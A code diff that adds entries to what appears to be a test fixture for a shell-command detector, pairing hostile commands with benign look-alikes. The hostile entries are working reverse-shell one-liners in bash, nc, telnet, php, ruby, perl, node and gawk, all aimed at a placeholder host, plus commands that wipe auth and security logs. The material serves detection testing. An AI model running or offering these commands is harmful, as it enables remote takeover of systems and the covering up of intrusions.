@@ -196,6 +196,16 @@ HISTORY = {
         "0<&196;exec 196<>/dev/tcp/203.0.113.4/4444; sh <&196 >&196 2>&196",
         "/bin/bash -l > /dev/tcp/203.0.113.4/443 0<&1 2>&1", "nc -e /bin/sh 192.0.2.1 4444",
         "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.4 9 >/tmp/f",
+        "telnet 203.0.113.4 80 | /bin/bash | telnet 203.0.113.4 81",
+        "php -r '$sock=fsockopen(\"203.0.113.4\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+        "ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.4\",4444).to_i;"
+        "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
+        "perl -e 'use IO::Socket::INET;$c=new IO::Socket::INET(PeerAddr,\"203.0.113.4:443\");STDIN->fdopen($c,r);"
+        "$~->fdopen($c,w);system$_ while<>;'",
+        "node -e 'var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);"
+        "var c=new net.Socket();c.connect(4444,\"203.0.113.4\")'",
+        "gawk 'BEGIN {s=\"/inet/tcp/0/203.0.113.4/4444\"; while(42){ do{ printf \"$ \" |& s; s |& getline c; "
+        "if(c){ while ((c |& getline) > 0) print $0 |& s; close(c)}} while(c != \"exit\") close(s)}}'",
     ], [
         "timeout 1 bash -c '</dev/tcp/10.0.0.5/5432' && echo open", "echo > /dev/tcp/localhost/8080 2>&1 && echo up",
         'exec 3<>/dev/tcp/example.com/80; echo -e "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3', "nc -zv 10.0.0.1 22",
@@ -243,6 +253,7 @@ HISTORY = {
         "journalctl --vacuum-size=1K", "rm -rf /var/log/journal/*", "utmpdump -r < /tmp/w > /var/log/wtmp",
         "sudo sh -c '> /var/log/secure'", "cp /dev/null /var/log/btmp", "ln -sf /dev/null /var/log/auth.log",
         "for f in /var/log/*.log; do > $f; done", "ls /var/log/*.log | xargs truncate -s0", "rm -rf /var/log",
+        "python3 -c \"open('/var/log/auth.log','w').close()\"", "perl -e 'truncate(\"/var/log/secure\", 0)'",
     ], [
         "rm /var/log/nginx/access.log.2.gz", "rm -f /var/log/*.gz", "rm /var/log/syslog.1",
         "rm /var/log/messages-20261101", 'find /var/log -name "*.gz" -mtime +30 -delete',
@@ -250,6 +261,7 @@ HISTORY = {
         "tail -f /var/log/syslog", 'echo "test" >> /var/log/app.log', "./app > /var/log/app.log 2>&1",
         "ls -la /var/log", "logrotate -f /etc/logrotate.conf", "grep sshd /var/log/auth.log > /tmp/ssh.txt",
         'find /var/log -name "*.gz" | xargs rm', "for f in /var/log/nginx/*.log; do wc -l $f; done",
+        "python3 -c \"print(open('/var/log/auth.log').read()[-500:])\"",
     ]),
     "TRI-EVADE-012": (["journalctl --vacuum-size=500M", "journalctl --vacuum-time=2d"],
                       ["journalctl --vacuum-time=1s", "journalctl -u nginx --since today"]),
